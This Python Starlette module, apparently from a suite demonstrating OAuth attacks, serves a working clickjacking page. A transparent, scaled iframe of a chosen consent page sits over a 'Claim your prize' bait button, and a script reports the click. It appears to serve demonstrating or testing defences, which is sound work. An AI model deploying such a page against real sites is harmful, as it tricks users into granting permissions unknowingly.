"""A page that lays somebody else's over its own, invisibly (RFC 9700 section 4.16).

Whoever clicks on what it offers clicks on what lies there: the button that allows an app what it
asks for. The attacker has looked up on a page of its own account where that button is.
"""

from html import escape

from starlette.requests import Request
from starlette.responses import HTMLResponse, Response

PATH, FRAMED = "/prize", "frame"
"""The address of the page, and the parameter that says what it frames."""
X, Y, WIDTH, HEIGHT = "x", "y", "width", "height"
"""Those that say where the button is in a frame of which size, in CSS pixels."""
CLICKED = "/clicked"
"""What the page loads once the focus has gone to the frame, which is all that it learns of it."""

_TIMES = 4

# The button is enlarged, so that it lies there although fonts differ a little.
_PAGE = """<!doctype html><html lang="en"><meta charset="utf-8"><title>You have won</title>
<style>body {{ margin: 0; overflow: hidden; font: 16px/1.5 system-ui, sans-serif }}
button {{ position: absolute; left: 300px; top: 200px; width: 200px; height: 60px }}
iframe {{ position: absolute; border: 0; opacity: 0; width: {width}px; height: {height}px;
left: calc(400px - {x}px); top: calc(230px - {y}px);
transform-origin: {x}px {y}px; transform: scale({times}) }}</style>
<button>Claim your prize</button><iframe src="{framed}"></iframe>
<script>onblur = () => {{ new Image().src = "{clicked}" }}</script></html>
"""


async def show(request: Request) -> Response:
    """Show the bait under the page that the address names."""
    asked = request.query_params
    place = {name: float(asked.get(name, "0")) for name in (X, Y, WIDTH, HEIGHT)}
    framed = escape(asked.get(FRAMED, "about:blank"))
    page = _PAGE.format(times=_TIMES, clicked=CLICKED, framed=framed, **place)
    return HTMLResponse(page, headers={"Cache-Control": "no-store"})
